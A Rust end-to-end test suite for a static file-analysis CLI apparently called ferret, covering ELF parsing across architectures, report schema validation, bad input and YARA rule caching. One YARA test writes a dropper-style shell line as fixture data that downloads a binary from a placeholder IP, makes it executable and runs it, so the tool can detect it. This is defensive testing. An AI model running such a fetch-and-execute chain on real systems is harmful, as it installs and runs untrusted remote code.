//! `ferret static` end to end: cross-compiled ELFs, the JSON schema, bad input, YARA.

use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use serde_json::Value;

fn ferret() -> Command {
    let mut c = Command::new(env!("CARGO_BIN_EXE_ferret"));
    c.env_remove("FERRET_CACHE_DIR");
    c
}

fn repo() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../..")
}

fn run(args: &[&str], cache: &Path) -> Output {
    ferret()
        .arg("static")
        .args(args)
        .arg("--cache-dir")
        .arg(cache)
        .output()
        .expect("ferret runs")
}

fn json(out: &Output) -> Value {
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
        panic!(
            "stdout is not JSON ({e}); stderr: {}",
            String::from_utf8_lossy(&out.stderr)
        )
    });
    validate(&doc);
    doc
}

/// Every JSON document the tests see must match the documented schema.
fn validate(doc: &Value) {
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(repo().join("docs/schema/static-report.schema.json")).unwrap(),
    )
    .unwrap();
    let validator = jsonschema::validator_for(&schema).expect("schema compiles");
    let errors: Vec<String> = validator
        .iter_errors(doc)
        .map(|e| format!("{} at {}", e, e.instance_path()))
        .take(20)
        .collect();
    assert!(
        errors.is_empty(),
        "report does not match the schema:\n{}",
        errors.join("\n")
    );
}

fn compile(cc: &str, flags: &[&str], src: &Path, out: &Path) {
    let st = Command::new(cc)
        .args(flags)
        .arg("-o")
        .arg(out)
        .arg(src)
        .status()
        .unwrap_or_else(|e| panic!("{cc} missing ({e}); run scripts/install.sh"));
    assert!(st.success(), "{cc} {flags:?} failed");
}

struct Target {
    cc: &'static str,
    machine: &'static str,
    class: &'static str,
    endian: &'static str,
    interp: &'static str,
}

const TARGETS: &[Target] = &[
    Target {
        cc: "gcc",
        machine: "x86-64",
        class: "ELF64",
        endian: "little",
        interp: "/lib64/ld-linux-x86-64.so.2",
    },
    Target {
        cc: "i686-linux-gnu-gcc",
        machine: "i386",
        class: "ELF32",
        endian: "little",
        interp: "/lib/ld-linux.so.2",
    },
    Target {
        cc: "arm-linux-gnueabi-gcc",
        machine: "ARM",
        class: "ELF32",
        endian: "little",
        interp: "/lib/ld-linux.so.3",
    },
    Target {
        cc: "aarch64-linux-gnu-gcc",
        machine: "AArch64",
        class: "ELF64",
        endian: "little",
        interp: "/lib/ld-linux-aarch64.so.1",
    },
    Target {
        cc: "mips-linux-gnu-gcc",
        machine: "MIPS",
        class: "ELF32",
        endian: "big",
        interp: "/lib/ld.so.1",
    },
    Target {
        cc: "mipsel-linux-gnu-gcc",
        machine: "MIPS",
        class: "ELF32",
        endian: "little",
        interp: "/lib/ld.so.1",
    },
    Target {
        cc: "powerpc-linux-gnu-gcc",
        machine: "PowerPC",
        class: "ELF32",
        endian: "big",
        interp: "/lib/ld.so.1",
    },
];

/// Done-when 1 of the static-analysis issue, through the CLI: every cross-compiled
/// binary, static and dynamic, analysed in one call.
#[test]
fn cross_compiled_binaries_report_machine_class_endianness_linkage_interpreter() {
    let dir = tempfile::tempdir().unwrap();
    let src = dir.path().join("hello.c");
    std::fs::write(
        &src,
        "#include <stdio.h>\nint main(void){puts(\"hello from ferret\");return 0;}\n",
    )
    .unwrap();
    let mut paths = Vec::new();
    for t in TARGETS {
        for linkage in ["dynamic", "static"] {
            let out = dir.path().join(format!("{}-{linkage}", t.cc));
            let flags: &[&str] = if linkage == "static" {
                &["-O1", "-static"]
            } else {
                &["-O1"]
            };
            compile(t.cc, flags, &src, &out);
            paths.push(out);
        }
    }
    let mut args: Vec<&str> = vec!["--json", "--no-yara"];
    args.extend(paths.iter().map(|p| p.to_str().unwrap()));
    let out = run(&args, &dir.path().join("cache"));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    let files = doc["files"].as_array().unwrap();
    assert_eq!(files.len(), paths.len());
    let mut i = 0;
    for t in TARGETS {
        for linkage in ["dynamic", "static"] {
            let f = &files[i];
            i += 1;
            let name = format!("{} {linkage}", t.cc);
            assert_eq!(f["path"], paths[i - 1].to_str().unwrap(), "order kept");
            assert_eq!(f["file_type"]["kind"], "elf", "{name}");
            let elf = &f["elf"];
            assert_eq!(elf["machine"]["name"], t.machine, "{name}");
            assert_eq!(elf["class"], t.class, "{name}");
            assert_eq!(elf["endianness"], t.endian, "{name}");
            assert_eq!(elf["linkage"], linkage, "{name}");
            if linkage == "dynamic" {
                assert_eq!(elf["interpreter"], t.interp, "{name}");
                assert!(
                    elf["needed"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|n| n == "libc.so.6"),
                    "{name}"
                );
                assert!(
                    elf["imports"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|i| i["name"] == "puts"),
                    "{name}: puts not imported"
                );
            } else {
                assert_eq!(elf["interpreter"], Value::Null, "{name}");
            }
            assert_eq!(
                elf["errors"].as_array().unwrap().len(),
                0,
                "{name}: {}",
                elf["errors"]
            );
            let desc = f["file_type"]["description"].as_str().unwrap();
            assert!(desc.contains(t.machine), "{name}: {desc}");
        }
    }
}

#[test]
fn missing_file_is_one_line_error_and_the_rest_is_analysed() {
    let dir = tempfile::tempdir().unwrap();
    let out = run(
        &[
            "--json",
            "--no-yara",
            "/nonexistent/sample.bin",
            "/bin/true",
        ],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(stderr.lines().count(), 1, "{stderr}");
    assert!(
        stderr.contains("/nonexistent/sample.bin") && stderr.contains("No such file"),
        "{stderr}"
    );
    let doc = json(&out);
    assert_eq!(doc["files"][0]["path"], "/bin/true");
    assert_eq!(doc["errors"][0]["path"], "/nonexistent/sample.bin");

    // A FIFO is refused without blocking on it; the other file is still analysed.
    let fifo = dir.path().join("fifo");
    assert!(
        Command::new("mkfifo")
            .arg(&fifo)
            .status()
            .unwrap()
            .success()
    );
    let out = run(
        &["--no-yara", fifo.to_str().unwrap(), "/bin/true"],
        dir.path(),
    );
    assert_eq!(out.status.code(), Some(1));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("fifo: not a regular file"), "{stderr}");
    assert!(String::from_utf8_lossy(&out.stdout).contains("== /bin/true =="));
}

#[test]
fn schema_rejects_documents_that_break_it() {
    let good = serde_json::json!({"schema_version": "1.0", "ferret_version": "0", "yara": null, "files": [], "errors": []});
    validate(&good);
    for bad in [
        serde_json::json!({"schema_version": "2.0", "ferret_version": "0", "yara": null, "files": [], "errors": []}),
        serde_json::json!({"schema_version": "1.0", "ferret_version": "0", "yara": null, "files": [{"path": 1}], "errors": []}),
        serde_json::json!({"schema_version": "1.0", "ferret_version": "0", "files": [], "errors": []}),
    ] {
        let result = std::panic::catch_unwind(|| validate(&bad));
        assert!(result.is_err(), "schema accepted {bad}");
    }
}

#[test]
fn truncated_and_corrupt_elves_give_partial_results_and_errors() {
    let dir = tempfile::tempdir().unwrap();
    let ls = std::fs::read("/bin/ls").unwrap();
    let trunc = dir.path().join("trunc");
    std::fs::write(&trunc, &ls[..3000]).unwrap();
    let mut bad = ls.clone();
    // e_shoff far past the end of the file.
    bad[0x28..0x30].copy_from_slice(&u64::MAX.to_le_bytes());
    let badsh = dir.path().join("badsh");
    std::fs::write(&badsh, &bad).unwrap();
    let ident = dir.path().join("ident");
    std::fs::write(&ident, b"\x7fELF\x07\x09garbage").unwrap();
    let out = run(
        &[
            "--json",
            "--no-yara",
            trunc.to_str().unwrap(),
            badsh.to_str().unwrap(),
            ident.to_str().unwrap(),
        ],
        dir.path(),
    );
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    let t = &doc["files"][0]["elf"];
    assert_eq!(t["machine"]["name"], "x86-64", "header still parsed");
    assert!(
        !t["errors"].as_array().unwrap().is_empty(),
        "truncation reported"
    );
    assert!(
        !t["segments"].as_array().unwrap().is_empty(),
        "program headers in the first 3000 bytes kept"
    );
    let b = &doc["files"][1]["elf"];
    assert!(!b["errors"].as_array().unwrap().is_empty());
    assert!(
        !b["segments"].as_array().unwrap().is_empty(),
        "segments survive bad section headers"
    );
    assert_eq!(b["interpreter"], "/lib64/ld-linux-x86-64.so.2");
    let i = &doc["files"][2];
    assert_eq!(i["elf"], Value::Null);
    assert!(
        i["errors"][0].as_str().unwrap().contains("ELF"),
        "{}",
        i["errors"]
    );
}

// Reads the YARA part of the report, which only a build with YARA has.
#[cfg(feature = "yara")]
#[test]
fn scripts_data_and_empty_files() {
    let dir = tempfile::tempdir().unwrap();
    let dropper = dir.path().join("dropper");
    std::fs::write(
        &dropper,
        "cd /tmp || cd /var/run; wget http://203.0.113.9/bins/x86; chmod +x x86; ./x86 scan\nrm -rf x86\n",
    )
    .unwrap();
    let py = dir.path().join("tool");
    std::fs::write(&py, "#!/usr/bin/env python3\nimport socket\nprint('hi')\n").unwrap();
    let empty = dir.path().join("empty");
    std::fs::write(&empty, b"").unwrap();
    let rnd = dir.path().join("random");
    let mut x: u64 = 0x9e3779b97f4a7c15;
    let data: Vec<u8> = (0..100_000)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            x as u8
        })
        .collect();
    std::fs::write(&rnd, &data).unwrap();
    let paths = [&dropper, &py, &empty, &rnd].map(|p| p.to_str().unwrap().to_owned());
    let mut args = vec!["--json"];
    args.extend(paths.iter().map(String::as_str));
    let out = run(&args, &dir.path().join("cache"));
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let doc = json(&out);
    let f = &doc["files"];
    assert_eq!(f[0]["file_type"]["kind"], "shell-script");
    assert!(
        f[0]["iocs"]["urls"]
            .as_array()
            .unwrap()
            .iter()
            .any(|u| u["value"] == "http://203.0.113.9/bins/x86")
    );
    let rules: Vec<&str> = f[0]["yara"]["matches"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["rule"].as_str().unwrap())
        .collect();
    assert!(
        rules.contains(&"ferret_downloader_chain"),
        "bundled rule did not match: {rules:?}"
    );
    assert_eq!(f[1]["file_type"]["kind"], "script");
    assert_eq!(f[1]["file_type"]["language"], "python");
    assert_eq!(f[2]["file_type"]["kind"], "empty");
    assert_eq!(f[2]["hashes"]["md5"], "d41d8cd98f00b204e9800998ecf8427e");
    assert_eq!(f[3]["file_type"]["kind"], "data");
    assert!(f[3]["entropy"].as_f64().unwrap() > 7.9);
}

// Reads the YARA part of the report, which only a build with YARA has.
#[cfg(feature = "yara")]
#[test]
fn yara_rules_compile_once_then_come_from_the_cache() {
    let dir = tempfile::tempdir().unwrap();
    let elastic = repo().join("../shared/data/yara/elastic-linux");
    let args = ["--json", "--rules", elastic.to_str().unwrap(), "/bin/true"];
    let first = json(&run(&args, dir.path()));
    assert_eq!(first["yara"]["cache"], "miss");
    assert_eq!(
        first["yara"]["files"], 250,
        "248 Elastic files plus 2 bundled"
    );
    assert_eq!(first["yara"]["failures"].as_array().unwrap().len(), 0);
    let second = json(&run(&args, dir.path()));
    assert_eq!(second["yara"]["cache"], "hit");
    assert_eq!(second["yara"]["rules"], first["yara"]["rules"]);

    let out = run(&["--rules", "/nonexistent/rules", "/bin/true"], dir.path());
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("/nonexistent/rules"), "{stderr}");
}

#[test]
fn human_output_has_sections_and_no_colour_when_piped() {
    let dir = tempfile::tempdir().unwrap();
    let out = run(&["/bin/ls"], dir.path());
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    for needle in [
        "== /bin/ls ==",
        "sha256",
        "ssdeep",
        "tlsh",
        "ELF",
        "machine",
        "x86-64",
        ".text",
        "LOAD",
        "imports",
    ] {
        assert!(text.contains(needle), "missing {needle:?} in:\n{text}");
    }
    assert!(!text.contains('\x1b'), "colour codes in piped output");
}
